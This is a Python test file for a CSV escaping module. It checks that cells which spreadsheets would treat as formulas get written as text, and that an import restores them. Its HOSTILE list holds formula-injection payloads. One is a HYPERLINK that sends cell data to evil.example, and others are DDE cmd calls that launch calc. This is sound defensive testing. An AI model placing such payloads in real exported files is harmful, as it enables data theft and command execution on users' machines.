"""Spreadsheet formula injection: no cell the hub writes runs as a formula, and an import undoes the escape.

(The funnel report's CSV with hostile names: tests/lifecycle/test_funnel_report.py; the contacts import's
round trip: tests/contacts/test_import.py.)
"""

from __future__ import annotations

import csv
import io

import pytest

from config import csv_safe

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click me")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=",
    "-",
    "+1 415 555 0100",  # not E.164 as written: a spreadsheet would compute it
    "-1e5x",
]


def written(row: list[object]) -> list[str]:
    out = io.StringIO()
    csv_safe.writer(out).writerow(row)
    [cells] = csv.reader(io.StringIO(out.getvalue(), newline=""))
    return cells


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(cell: str) -> None:
    [shown] = written([cell])
    assert shown == "'" + cell
    assert csv_safe.cell_unescape(shown) == cell


@pytest.mark.parametrize(
    "cell", ["+14155550100", "-12.5", "+3", "1e-5", "-0.5E+3", "42", ".5", "Rita", "rita@example.com", ""]
)
def test_numbers_phone_numbers_and_plain_text_are_written_as_they_are(cell: str) -> None:
    assert written([cell]) == [cell]
    assert csv_safe.cell_unescape(cell) == cell


def test_non_text_cells_are_written_as_python_writes_them() -> None:
    assert written([-3, 2.5, None, "x"]) == ["-3", "2.5", "", "x"]


@pytest.mark.parametrize("cell", ["'=1+1", "''@x", "'plain", "'", "'-12.5", "it's =fine", "'+14155550100"])
def test_text_that_already_starts_with_quotes_comes_back_the_same(cell: str) -> None:
    [shown] = written([cell])
    assert shown[:1] not in csv_safe.TRIGGERS
    assert csv_safe.cell_unescape(shown) == cell
